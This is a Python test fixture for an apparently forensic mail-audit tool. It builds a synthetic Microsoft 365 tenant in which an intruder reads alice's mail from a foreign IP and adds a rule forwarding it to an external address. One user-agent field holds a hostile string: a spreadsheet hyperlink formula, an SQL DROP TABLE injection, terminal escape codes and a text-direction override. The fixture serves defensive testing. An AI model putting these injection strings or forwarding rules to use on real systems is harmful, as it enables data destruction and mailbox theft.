"""A small hand-built tenant for the timeline tests: alice reads her mail from home, bob from his
office, an intruder reads alice's from elsewhere; records written in the vendors' shapes and
ingested."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path
from typing import Any

from mailhunt.ingest import ingest
from mailhunt.store.db import Store
from tests.helpers import (
    OUTLOOK,
    ROGUE_APP,
    Record,
    at,
    mail_access,
    signin_record,
    ual_record,
    write_jsonl,
)

DOMAIN = "contoso.onmicrosoft.com"
ALICE = f"alice@{DOMAIN}"
BOB = f"bob@{DOMAIN}"
ADMIN = f"it-admin@{DOMAIN}"
HOME = "203.0.113.10"
OFFICE = "198.51.100.20"
INTRUDER = "45.77.12.34"
INTRUDER_V6 = "2001:db8:0:0::7"
ENTRA_SESSION = "6f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0"
HOSTILE_AGENT = '=HYPERLINK("http://evil")\'; DROP TABLE events; --\x1b[31m[red]x[/red]\u202e'


def access(
    record_id: str,
    moment: datetime,
    mailbox: str,
    *,
    app: str = OUTLOOK,
    ip: str = HOME,
    actor: str | None = None,
    agent: str = "Client=REST;",
    entra: str | None = None,
    exchange: str | None = None,
    **fields: Any,
) -> Record:
    """A MailItemsAccessed Bind of one message, with an Entra or Exchange session id if given."""
    port = f"[{ip}]:443" if ":" in ip else f"{ip}:443"
    record = mail_access(record_id, moment, mailbox, app, actor=actor, ip=port, client_info=agent)
    if entra:
        record["AppAccessContext"] = {"AADSessionId": entra}
    if exchange:
        record["SessionId"] = exchange
    record.update(fields)
    return record


def signin(
    record_id: str, moment: datetime, user: str, *, ip: str = HOME, session: str | None = None
) -> Record:
    record = signin_record(record_id, moment, user, OUTLOOK, ip=ip)
    record["sessionId"] = session or f"s-{record_id}"
    return record


def sent(record_id: str, moment: datetime, mailbox: str, ip: str = HOME) -> Record:
    return ual_record(
        record_id,
        moment,
        "Send",
        UserId=mailbox,
        MailboxOwnerUPN=mailbox,
        ClientIPAddress=ip,
        ClientInfoString="Client=OWA;",
    )


def rule_cmdlet(record_id: str, moment: datetime, mailbox: str, ip: str) -> Record:
    """New-InboxRule run by the administrator on the mailbox (named in a parameter only)."""
    return ual_record(
        record_id,
        moment,
        "New-InboxRule",
        RecordType=1,
        UserId=ADMIN,
        ClientIP=ip,
        ObjectId="contoso/Users/x\\rule",
        Parameters=[
            {"Name": "Mailbox", "Value": mailbox},
            {"Name": "ForwardTo", "Value": "SMTP:drop@evil-mail.com"},
        ],
    )


def history() -> tuple[list[Record], list[Record]]:
    """(audit, sign-ins): five ordinary days, then the intrusion on day 6."""
    audit: list[Record] = []
    signins: list[Record] = []
    for day in range(5):
        signins.append(signin(f"sa-{day}", at(day, 8), ALICE))
        audit.append(access(f"a-{day}", at(day, 8, 5), ALICE))
        audit.append(access(f"b-{day}", at(day, 9, 5), BOB, ip=OFFICE))
    signins.append(signin("sx", at(6, 2), ALICE, ip=INTRUDER, session=ENTRA_SESSION))
    audit += [
        access("x1", at(6, 2, 1), ALICE, app=ROGUE_APP, ip=INTRUDER, entra=ENTRA_SESSION),
        access("x2", at(6, 2, 50), ALICE, app=ROGUE_APP, ip=INTRUDER, entra=ENTRA_SESSION),
        access("x3", at(6, 3), BOB, app=ROGUE_APP, ip=INTRUDER_V6, agent=HOSTILE_AGENT),
        rule_cmdlet("r1", at(6, 4), ALICE, INTRUDER),
        sent("m1", at(6, 5), ALICE, ip=HOME),
    ]
    return audit, signins


def build(store: Store, folder: Path, extra: list[Record] | None = None) -> None:
    """Ingest the history (and ``extra`` audit records) into the store."""
    audit, signins = history()
    write_jsonl(folder / "ual.jsonl", audit + (extra or []))
    write_jsonl(folder / "signins.jsonl", signins)
    summary = ingest(store, [folder])
    assert summary.quarantined == 0, summary.reasons
